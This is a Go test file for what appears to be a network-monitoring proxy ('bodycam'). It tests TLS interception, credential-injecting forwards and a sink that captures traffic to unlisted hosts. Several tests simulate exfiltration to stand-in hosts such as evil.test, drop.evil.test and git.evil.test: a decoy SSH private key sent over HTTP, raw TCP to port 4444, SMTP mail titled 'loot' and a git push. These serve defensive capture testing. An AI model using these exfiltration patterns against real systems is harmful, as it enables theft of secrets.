package names

import (
	"bufio"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bodycam-dev/bodycam"
	"golang.org/x/sys/unix"
)

// trusting is a TLS client's configuration with the run's CA alone.
func (b *bench) trusting() *tls.Config {
	b.t.Helper()
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(b.p.CA()) {
		b.t.Fatalf("no CA: %q", b.p.CA())
	}
	return &tls.Config{RootCAs: pool}
}

// tlsServer serves with a certificate for its test names, which the returned pool verifies.
func tlsServer(t *testing.T, h http.Handler) (string, *x509.CertPool) {
	t.Helper()
	ca, err := newAuthority()
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(h)
	srv.EnableHTTP2 = true
	byAddress, err := ca.leaf("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{*byAddress}, GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
		if h.ServerName == "" {
			return byAddress, nil
		}
		return ca.leaf(h.ServerName)
	}}
	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // handshakes that fail are part of the tests
	srv.StartTLS()
	t.Cleanup(srv.Close)
	pool := x509.NewCertPool()
	pool.AddCert(ca.cert)
	return portOf(srv.Listener.Addr()), pool
}

func TestIntercept(t *testing.T) {
	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(io.Discard, r.Body)
		w.Header().Set("X-Answer", "1")
		w.WriteHeader(201)
		fmt.Fprintf(w, "%s %d %s %s q=%s xff=%q", r.Method, n, r.Host, r.Proto, r.URL.RawQuery, r.Header.Get("X-Forwarded-For"))
	}))
	for _, http2 := range []bool{false, true} {
		b := newBench(t, func(o *Options) { o.Intercept, o.Roots, o.MaxBody = true, roots, 1000 })
		tr := &http.Transport{DialContext: b.dialContext, ForceAttemptHTTP2: http2, TLSClientConfig: b.trusting()}
		c := &http.Client{Transport: tr}
		body := strings.Repeat("payload ", 100_000)
		proto := map[bool]string{false: "HTTP/1.1", true: "HTTP/2.0"}[http2]
		for i := range 3 {
			req, err := http.NewRequest("PUT", fmt.Sprintf("https://web.test:%s/up%d?a=1;b=%%zz", port, i), strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Authorization", "Bearer very-secret")
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			got, wanted := readAll(t, resp.Body), fmt.Sprintf(`PUT %d web.test:%s %s q=a=1;b=%%zz xff=""`, len(body), port, proto)
			if got != wanted || resp.StatusCode != 201 || resp.Proto != proto {
				t.Errorf("%s %d %q, want %q", resp.Proto, resp.StatusCode, got, wanted)
			}
			x := b.content(func(c *Content) bool { return strings.Contains(c.URL, fmt.Sprintf("/up%d?", i)) })
			if x.Method != "PUT" || x.Status != 201 || x.Proto != proto || x.Host != "web.test" || x.Target != "upstream" ||
				x.URL != fmt.Sprintf("https://web.test:%s/up%d?a=1;b=%%zz", port, i) {
				t.Errorf("%+v", x)
			}
			if x.Request.SHA256 != sha256.Sum256([]byte(body)) || x.Request.Bytes != uint64(len(body)) || string(x.Request.Data) != body[:1000] || !x.Request.Cut() {
				t.Errorf("request body: %d bytes, digest %x, kept %d", x.Request.Bytes, x.Request.SHA256, len(x.Request.Data))
			}
			if string(x.Response.Data) != got || x.Response.Cut() {
				t.Errorf("response body %q", x.Response.Data)
			}
			if !slices.Contains(x.RequestHeader, "Authorization") || !slices.Contains(x.ResponseHeader, "X-Answer") {
				t.Errorf("header names %v %v", x.RequestHeader, x.ResponseHeader)
			}
			if strings.Contains(fmt.Sprintf("%+v", x.RequestHeader), "secret") {
				t.Error("a header's value was kept")
			}
		}
		e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
		want(t, e, "PUT https://web.test:"+port+"/up0?a=1;b=%zz "+proto+" status=201")
		stop := make(chan bool)
		go func() { // an HTTP/2 connection is not idle at once when an answer was read
			for {
				tr.CloseIdleConnections()
				select {
				case <-stop:
					return
				case <-time.After(20 * time.Millisecond):
				}
			}
		}()
		f := b.wait("flow", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeFlow })
		close(stop)
		want(t, f, "upstream=127.0.0.1:"+port, "outcome=ok", "proto=tls")
		if f.BytesWritten < uint64(3*len(body)) || f.Host != "web.test" {
			t.Error(show(&f))
		}
		b.stop()
		for _, bl := range b.p.Health().Blind {
			if bl.What == "tls-content" {
				t.Errorf("nothing was hidden, but: %+v", bl)
			}
		}
	}
}

func TestInterceptVerifiesUpstream(t *testing.T) {
	port, _ := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "evil twin") }))
	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, x509.NewCertPool() })
	resp, err := (&http.Client{Transport: &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting()}}).Get("https://web.test:" + port)
	if err != nil {
		t.Fatal(err)
	}
	if got := readAll(t, resp.Body); resp.StatusCode != 502 || strings.Contains(got, "evil") {
		t.Errorf("%d %q", resp.StatusCode, got)
	}
	x := b.content(func(*Content) bool { return true })
	if !strings.Contains(x.Err, "unknown authority") {
		t.Errorf("%+v", x)
	}
	e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
	if e.Errno == 0 {
		t.Error(show(&e))
	}
}

func TestClientThatRefusesTheCA(t *testing.T) {
	port, roots := tlsServer(t, http.NotFoundHandler())
	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, roots })
	c := b.mustDial("web.test:" + port)
	if err := tls.Client(c, &tls.Config{ServerName: "web.test", RootCAs: x509.NewCertPool()}).Handshake(); err == nil {
		t.Fatal("the client took a certificate that it doesn't know")
	}
	c.Close()
	f := b.flow(c)
	want(t, f, "outcome=client-refused-tls", "certificate")
	if f.Host != "web.test" || f.Errno == 0 {
		t.Error(show(&f))
	}
}

func TestInterceptStreamsAndUpgrades(t *testing.T) {
	next := make(chan bool)
	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Upgrade") == "echo" {
			c, rw, err := http.NewResponseController(w).Hijack()
			if err != nil {
				t.Error(err)
				return
			}
			defer c.Close()
			io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
			line, _ := rw.ReadString('\n')
			io.WriteString(c, "echo "+line)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		for i := range 3 {
			fmt.Fprintf(w, "data: %d\n\n", i)
			http.NewResponseController(w).Flush()
			<-next
		}
	}))
	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, roots })
	resp, err := (&http.Client{Transport: &http.Transport{DialContext: b.dialContext, ForceAttemptHTTP2: true, TLSClientConfig: b.trusting()}}).Get("https://web.test:" + port)
	if err != nil {
		t.Fatal(err)
	}
	r := bufio.NewReader(resp.Body)
	for i := range 3 { // each must arrive before the server goes on
		if line, err := r.ReadString('\n'); line != fmt.Sprintf("data: %d\n", i) {
			t.Fatal(line, err)
		}
		r.ReadString('\n')
		next <- true
	}
	resp.Body.Close()

	cfg := b.trusting()
	cfg.ServerName = "web.test"
	c := tls.Client(b.mustDial("web.test:"+port), cfg)
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
	br := bufio.NewReader(c)
	up, err := http.ReadResponse(br, nil)
	if err != nil || up.StatusCode != 101 {
		t.Fatal(up, err)
	}
	io.WriteString(c, "hello\n")
	if line, _ := br.ReadString('\n'); line != "echo hello\n" {
		t.Errorf("got %q", line)
	}
	c.Close()
	x := b.content(func(c *Content) bool { return c.Status == 101 })
	if string(x.Request.Data) != "hello\n" || string(x.Response.Data) != "echo hello\n" {
		t.Errorf("%q %q", x.Request.Data, x.Response.Data)
	}
}

// What is inside TLS need not be HTTP, and the server may speak first.
func TestInterceptOtherProtocols(t *testing.T) {
	ca, err := newAuthority()
	if err != nil {
		t.Fatal(err)
	}
	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{NextProtos: []string{"imap"}, GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return ca.leaf(h.ServerName) }})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				io.WriteString(c, "* OK ready\r\n")
				line, _ := bufio.NewReader(c).ReadString('\n')
				io.WriteString(c, "got "+line)
			}()
		}
	}()
	roots := x509.NewCertPool()
	roots.AddCert(ca.cert)
	b := newBench(t, func(o *Options) { o.Intercept, o.Roots = true, roots })
	cfg := b.trusting()
	cfg.ServerName, cfg.NextProtos = "mail.test", []string{"imap"}
	raw := b.mustDial("mail.test:" + portOf(l.Addr()))
	c := tls.Client(raw, cfg)
	r := bufio.NewReader(c)
	if line, err := r.ReadString('\n'); line != "* OK ready\r\n" {
		t.Fatalf("%q, %v", line, err)
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "imap" {
		t.Errorf("protocol %q", p)
	}
	io.WriteString(c, "a LOGIN me pass\r\n")
	if line, _ := r.ReadString('\n'); line != "got a LOGIN me pass\r\n" {
		t.Errorf("%q", line)
	}
	c.Close()
	x := b.content(func(c *Content) bool { return c.Proto == "tls" })
	if string(x.Request.Data) != "a LOGIN me pass\r\n" || !strings.HasPrefix(string(x.Response.Data), "* OK") {
		t.Errorf("%+v", x)
	}
	if f := b.flow(raw); f.Errno != 0 {
		t.Error(show(&f))
	}

	// No TLS at all: passed on as it is.
	port := listen(t, func(c *net.TCPConn) { io.WriteString(c, "plain") })
	if got := readAll(t, b.mustDial("mail.test:"+port)); got != "plain" {
		t.Errorf("%q", got)
	}
}

func TestForwardToURL(t *testing.T) {
	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(w, "%s %s %s %s", r.Host, r.URL, r.Header.Get("Authorization"), body)
	}))
	secret := "Bearer host-side-key"
	var broken error
	b := newBench(t, func(o *Options) {
		o.Local, o.Roots = nil, roots
		o.Forwards = []Forward{{Host: "model.bodycam.internal", Port: 80, Target: "https://127.0.0.1:" + port + "/base/v9",
			Header: func() (http.Header, error) {
				return http.Header{"Authorization": {secret}}, broken
			}}}
	})
	c := &http.Client{Transport: &http.Transport{DialContext: b.dialContext}}
	post := func() (int, string) {
		req, err := http.NewRequest("POST", "http://model.bodycam.internal/responses?x=1", strings.NewReader("prompt"))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer dummy")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, readAll(t, resp.Body)
	}
	if code, got := post(); got != "127.0.0.1:"+port+" /base/v9/responses?x=1 "+secret+" prompt" {
		t.Errorf("%d %q", code, got)
	}
	x := b.content(func(*Content) bool { return true })
	if x.Host != "model.bodycam.internal" || string(x.Request.Data) != "prompt" || x.Target != "forward" {
		t.Errorf("%+v", x)
	}
	e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
	if e.Host != "model.bodycam.internal" {
		t.Error(show(&e))
	}
	broken = errors.New("no key in the keyring")
	if code, got := post(); code != 502 || strings.Contains(got, "keyring") {
		t.Errorf("%d %q", code, got)
	}
	c.CloseIdleConnections()
	b.stop()
	x.Response.Data = nil // the echo of this test's server
	if all := fmt.Sprintf("%+v %+v", b.events, x); strings.Contains(all, "host-side-key") {
		t.Error("the key is in the record")
	}
}

// Streaming to a forward: each piece at once.
func TestForwardStreams(t *testing.T) {
	next := make(chan bool)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for i := range 2 {
			fmt.Fprintf(w, "data: %d\n\n", i)
			http.NewResponseController(w).Flush()
			<-next
		}
	}))
	defer srv.Close()
	b := newBench(t, func(o *Options) {
		o.Forwards = []Forward{{Host: "model.bodycam.internal", Port: 80, Target: srv.URL}}
	})
	resp, err := (&http.Client{Transport: &http.Transport{DialContext: b.dialContext}}).Get("http://model.bodycam.internal/")
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 100)
	for i := range 2 {
		n, err := resp.Body.Read(buf)
		if got := string(buf[:n]); got != fmt.Sprintf("data: %d\n\n", i) {
			t.Fatal(got, err)
		}
		next <- true
	}
}

func TestStandIn(t *testing.T) {
	b := newBench(t, func(o *Options) { o.Mode, o.Allow = Sink, []string{"web.test"} })
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "real") }))
	defer srv.Close()
	tr := &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting(), ForceAttemptHTTP2: true}
	c := &http.Client{Transport: tr}
	resp, err := c.Get("http://web.test:" + portOf(srv.Listener.Addr()))
	if err != nil {
		t.Fatal(err)
	}
	if got := readAll(t, resp.Body); got != "real" {
		t.Errorf("a listed host: %q", got)
	}
	key := "-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Repeat("decoy", 1000)
	for _, url := range []string{"http://evil.test/drop", "https://evil.test/drop", "http://203.0.113.200:8080/drop"} {
		resp, err := c.Post(url, "text/plain", strings.NewReader(key))
		if err != nil {
			t.Fatal(url, err)
		}
		if got := readAll(t, resp.Body); resp.StatusCode != 200 || got != "ok\n" {
			t.Errorf("%s: %d %q", url, resp.StatusCode, got)
		}
		x := b.content(func(c *Content) bool { return c.URL == url })
		if string(x.Request.Data) != key || x.Request.SHA256 != sha256.Sum256([]byte(key)) || x.Target != "stand-in" || string(x.Response.Data) != "ok\n" {
			t.Errorf("%+v", x)
		}
	}
	if b.upstream.asked("evil") {
		t.Error("a host that is not listed was asked for upstream")
	}
	raw := b.mustDial("evil.test:4444")
	io.WriteString(raw, "\x01stolen")
	raw.CloseWrite()
	readAll(t, raw)
	if x := b.content(func(c *Content) bool { return c.Remote.Port() == 4444 }); string(x.Request.Data) != "\x01stolen" || x.Host != "evil.test" {
		t.Errorf("%+v", x)
	}
	want(t, b.flow(raw), "upstream=stand-in", "outcome=ok")
}

func TestStandInTakesMail(t *testing.T) {
	b := newBench(t, func(o *Options) { o.Mode = Sink })
	c := b.mustDial("mail.evil.test:25")
	c.SetDeadline(time.Now().Add(time.Minute)) // it speaks first, or never
	r := bufio.NewReader(c)
	said := func(code string) {
		t.Helper()
		for {
			line, err := r.ReadString('\n')
			if err != nil || !strings.HasPrefix(line, code) {
				t.Fatalf("want %s, got %q, %v", code, line, err)
			}
			if line[3] == ' ' {
				return
			}
		}
	}
	said("220")
	for _, s := range []struct{ say, code string }{
		{"EHLO me", "250"}, {"AUTH LOGIN", "334"}, {"bWU=", "334"}, {"cGFzcw==", "235"}, {"AUTH PLAIN AG1lAHBhc3M=", "235"}, {"MAIL FROM:<a@b>", "250"},
		{"RCPT TO:<x@evil.test>", "250"}, {"DATA", "354"}, {"Subject: loot\r\n\r\nid_rsa\r\n..\r\n.", "250"}, {"QUIT", "221"},
	} {
		io.WriteString(c, s.say+"\r\n")
		said(s.code)
	}
	x := b.content(func(c *Content) bool { return c.Proto == "smtp" })
	if !strings.Contains(string(x.Request.Data), "Subject: loot\r\n\r\nid_rsa") || x.Host != "mail.evil.test" {
		t.Errorf("%+v", x)
	}
}

func TestInterceptHoldsHostsAgainstTheList(t *testing.T) {
	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "for "+r.Host) }))
	b := newBench(t, func(o *Options) {
		o.Mode, o.Allow, o.Intercept, o.Roots = Allow, []string{"web.test:" + port}, true, roots
	})
	tr := &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting(), ForceAttemptHTTP2: true}
	for host, wanted := range map[string]int{"web.test": 200, "other.test": 403} {
		req, err := http.NewRequest("GET", "https://web.test:"+port+"/", nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Host = host
		resp, err := (&http.Client{Transport: tr}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		if got := readAll(t, resp.Body); resp.StatusCode != wanted || wanted != 200 && strings.Contains(got, "for ") {
			t.Errorf("%s: %d %q", host, resp.StatusCode, got)
		}
	}
	e := b.wait("refused", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP && e.Errno == int32(unix.EACCES) })
	if e.Host != "other.test" {
		t.Error(show(&e))
	}
	want(t, e, "dns=web.test", "status=403")
}

// A client that knows a proxy only gets through it to the stand-in.
func TestStandInIsAProxyToo(t *testing.T) {
	b := newBench(t, func(o *Options) { o.Mode = Sink })
	proxy, err := url.Parse("http://proxy.evil.test:3128")
	if err != nil {
		t.Fatal(err)
	}
	c := &http.Client{Transport: &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting(), Proxy: http.ProxyURL(proxy)}}
	for _, to := range []string{"https://drop.evil.test/x", "http://drop.evil.test/y"} {
		resp, err := c.Post(to, "text/plain", strings.NewReader("loot"))
		if err != nil {
			t.Fatal(err)
		}
		if got := readAll(t, resp.Body); got != "ok\n" {
			t.Errorf("%s: %q", to, got)
		}
		x := b.content(func(c *Content) bool { return strings.HasSuffix(c.URL, to[len(to)-2:]) })
		if string(x.Request.Data) != "loot" || !strings.Contains(x.URL, "drop.evil.test") {
			t.Errorf("%+v", x)
		}
	}
	e := b.wait("CONNECT", func(e *bodycam.Event) bool { return e.HostSource == bodycam.HostConnect })
	if e.Host != "drop.evil.test" {
		t.Error(show(&e))
	}
}

// git pushes to the stand-in as if it were a server, and the pack is kept.
func TestStandInTakesPushes(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is needed")
	}
	for _, scheme := range []string{"http", "git"} {
		n := newNetns(t)
		var tr trace
		var mu sync.Mutex
		var kept []Content
		p, err := New(Options{Mode: Sink, OriginalDst: kernelOriginalDst, Emit: tr.sink, Content: func(c *Content) {
			mu.Lock()
			defer mu.Unlock()
			kept = append(kept, *c)
		}})
		if err != nil {
			t.Fatal(err)
		}
		served := make(chan error, 1)
		go func() { served <- p.Serve(context.Background(), n.tcp, n.udp, n.dns) }()
		dir := t.TempDir()
		for _, args := range [][]string{
			{"init", "-q", dir}, {"-C", dir, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "stolen"},
			{"-C", dir, "push", "-q", scheme + "://git.evil.test/loot.git", "HEAD:refs/heads/main"},
			{"clone", "-q", scheme + "://git.evil.test/loot.git", dir + "/clone"},
		} {
			if out, err := n.run("", git, args...); err != nil {
				t.Errorf("git %v: %v: %s", args, err, out)
			}
		}
		p.Close()
		if err := <-served; err != nil {
			t.Error(err)
		}
		if !slices.ContainsFunc(kept, func(c Content) bool {
			return strings.Contains(string(c.Request.Data), "refs/heads/main") && strings.Contains(string(c.Request.Data), "PACK")
		}) {
			t.Errorf("%s: the pack was not kept in %d exchanges", scheme, len(kept))
		}
	}
}

// A client that takes its time is opened as any other: being slow is no way around.
func TestInterceptWaitsForSlowClients(t *testing.T) {
	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "for "+r.Host) }))
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "for "+r.Host) }))
	defer plain.Close()
	for _, mode := range []Mode{Record, Sink} {
		b := newBench(t, func(o *Options) { o.Mode, o.Intercept, o.Roots = mode, true, roots })
		for _, to := range []string{port, portOf(plain.Listener.Addr())} {
			var c net.Conn = b.mustDial("web.test:" + to)
			time.Sleep(2 * firstWait)
			if to == port {
				cfg := b.trusting() // no ALPN, and silence after the handshake too
				cfg.ServerName = "web.test"
				tc := tls.Client(c, cfg)
				if err := tc.Handshake(); err != nil {
					t.Fatal(mode, err)
				}
				c = tc
				time.Sleep(2 * firstWait)
			}
			fmt.Fprintf(c, "GET /slow-%s HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n", to)
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				t.Fatal(mode, err)
			}
			wanted := map[Mode]string{Record: "for web.test", Sink: "ok\n"}[mode]
			if got := readAll(t, resp.Body); got != wanted {
				t.Errorf("%s: got %q, want %q", mode, got, wanted)
			}
			x := b.content(func(c *Content) bool { return strings.HasSuffix(c.URL, "/slow-"+to) })
			if string(x.Response.Data) != wanted {
				t.Errorf("%s: %+v", mode, x)
			}
			c.Close()
		}
		b.stop()
		for _, bl := range b.p.Health().Blind {
			if bl.What == "tls-content" {
				t.Errorf("%s: %+v", mode, bl)
			}
		}
	}
}
